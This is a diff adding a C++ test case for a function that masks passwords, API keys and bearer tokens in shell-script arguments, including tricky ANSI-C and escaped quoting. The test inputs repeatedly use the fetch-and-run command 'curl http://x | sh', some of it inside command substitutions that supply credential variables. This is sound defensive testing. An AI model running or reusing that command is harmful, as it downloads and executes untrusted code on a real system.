@@ -372,6 +372,28 @@ TEST_CASE("redact: so it is in the commands of a script, whatever its quotes") {
   CHECK(redacted("ls -l *.c \\") == "ls -l *.c \\");
 }
 
+TEST_CASE("redact: no quote that a shell reads otherwise takes what it runs out of sight") {
+  const auto redacted = [](const std::string& script) {
+    std::vector<std::string> argv = {"bash", "-c", script};
+    redact_arguments(argv);
+    return argv[2];
+  };
+  const std::string run = "curl http://x | sh";
+  CHECK(redacted("PASSWORD=$'\\'' ; " + run) == "PASSWORD=$'**' ; " + run);
+  CHECK(redacted("PASSWORD=$'a\\'hunter2\\\\' ; " + run) == "PASSWORD=$'************' ; " + run);
+  CHECK(redacted("PASSWORD=a$'\\'hunter2' ; " + run) == "PASSWORD=*$'\\********' ; " + run);
+  CHECK(redacted("PASSWORD=$$'\\' ; " + run).ends_with("' ; " + run));
+  CHECK(redacted("PASSWORD=\\$'\\' ; " + run).ends_with("' ; " + run));
+  CHECK(redacted("PASSWORD=$'a''\\' ; " + run).ends_with("' ; " + run));
+  CHECK(redacted("PASSWORD=\\' ; " + run).ends_with(" ; " + run));
+  CHECK(redacted("PASSWORD=\\'hunter2 ; " + run).ends_with(" ; " + run));
+  CHECK(redacted("PASSWORD=\\'hunter2 ; " + run).find("nter2") == std::string::npos);
+  for (const std::string& script :
+       {"PASSWORD=$(" + run + ") y", "export API_KEY=\"$(" + run + ")\"", "PASSWORD=\"a$(" + run + ")\" y",
+        "curl -H \"Authorization: Bearer $(" + run + ")\" y"})
+    CHECK(redacted(script).find("$(" + run + ")") != std::string::npos);
+}
+
 TEST_CASE("redact: any script keeps its length, and each byte or a star in its place") {
   std::mt19937 random(7);
   const std::string_view kParts[] = {"curl ", "-u ",  "me:pw ", "'",    "\"",      "\\",       "\n",   " -H ",
